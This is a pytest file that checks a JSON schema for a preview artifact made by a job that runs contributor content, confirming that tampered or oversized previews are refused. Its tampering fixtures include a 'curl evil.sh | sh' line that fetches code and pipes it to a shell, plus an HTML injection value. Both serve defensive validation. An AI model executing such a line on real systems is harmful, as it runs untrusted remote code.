"""schemas/preview.json, from the comment job's side: preview.json arrives as an artifact of a job
that ran contributor content, so anything outside the shape report.py writes is refused."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from taxonbot.schemas import load, validator
from taxonbot.sdg.pipeline import Budget, load_pipeline, run_leaf
from taxonbot.sdg.replies import SCALES
from taxonbot.sdg.report import write_preview
from taxonbot.sdg.session import LeafOutcome

from .fakes import context_for, fake_model, haiku_job

PREVIEW_SCHEMA = "https://taxonbot.dev/schemas/preview.json"


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A preview with a finished leaf (one pair rejected) and a leaf that could not run."""
    model = fake_model(pair_rating=["3", "hmm"])
    ctx = context_for(haiku_job(), model)
    run = run_leaf(load_pipeline("freeform_skills"), ctx, Budget(pairs=2))
    outcomes = [LeafOutcome("a/qna.yaml", run), LeafOutcome("b/qna.yaml", error="bad YAML")]
    out = tmp_path_factory.mktemp("preview")
    write_preview(out, outcomes, model, Budget(pairs=2), seed=3)
    body: dict[str, Any] = json.loads((out / "preview.json").read_text(encoding="utf-8"))
    return body


def problems(body: dict[str, Any]) -> list[str]:
    return [e.message for e in validator(PREVIEW_SCHEMA).iter_errors(body)]


def test_what_report_py_writes_is_valid(good: dict[str, Any]) -> None:
    assert problems(good) == []
    assert [leaf["status"] for leaf in good["leaves"]] == ["complete", "error"]


Tamper = Callable[[dict[str, Any]], object]
TAMPERING: dict[str, Tamper] = {
    "unknown top-level key": lambda b: b.update(run="curl evil.sh | sh"),
    "unknown pair key": lambda b: b["leaves"][0]["pairs"][0].update(html="<img src=x>"),
    "other format": lambda b: b.update(format="taxonbot-preview/2"),
    "huge answer": lambda b: b["leaves"][0]["pairs"][0].update(answer="a" * 20_001),
    "huge judge reply": lambda b: b["leaves"][0]["pairs"][0]["judge_replies"].update(
        pair_rating="9" * 201
    ),
    "too many pairs": lambda b: b["leaves"][0]["pairs"].extend(b["leaves"][0]["pairs"] * 600),
    "unknown status": lambda b: b["leaves"][0].update(status="merged"),
    "error leaf with pairs": lambda b: b["leaves"][1]["pairs"].append(b["leaves"][0]["pairs"][0]),
    "error leaf with a pipeline": lambda b: b["leaves"][1].update(
        pipeline=b["leaves"][0]["pipeline"]
    ),
    "finished leaf without seconds": lambda b: b["leaves"][0].pop("seconds"),
    "block name with markup": lambda b: b["leaves"][0]["pairs"][0].update(rejected_by="<b>x</b>"),
    "score off every scale": lambda b: b["leaves"][0]["pairs"][0]["scores"].update(pair_rating=7),
    "negative count": lambda b: b["stats"].update(requests=-1),
    "not a hash": lambda b: b.update(templates_sha256="latest"),
    "model fact that is not text": lambda b: b["model"].update(n_ctx=4096),
    "missing stats": lambda b: b.pop("stats"),
}


@pytest.mark.parametrize("tamper", TAMPERING.values(), ids=TAMPERING.keys())
def test_a_tampered_or_oversized_preview_is_refused(good: dict[str, Any], tamper: Tamper) -> None:
    body = copy.deepcopy(good)
    tamper(body)
    assert problems(body)


def test_the_score_cap_follows_the_judging_scales() -> None:
    pair = load(PREVIEW_SCHEMA)["$defs"]["pair"]["properties"]
    allowed = pair["scores"]["additionalProperties"]
    assert allowed["minimum"] == min(low for low, _ in SCALES.values())
    assert allowed["maximum"] == max(high for _, high in SCALES.values())


def test_the_schema_is_where_the_comment_job_looks_for_it() -> None:
    path = Path(__file__).resolve().parents[2] / "schemas" / "preview.json"
    assert json.loads(path.read_text(encoding="utf-8"))["$id"] == PREVIEW_SCHEMA
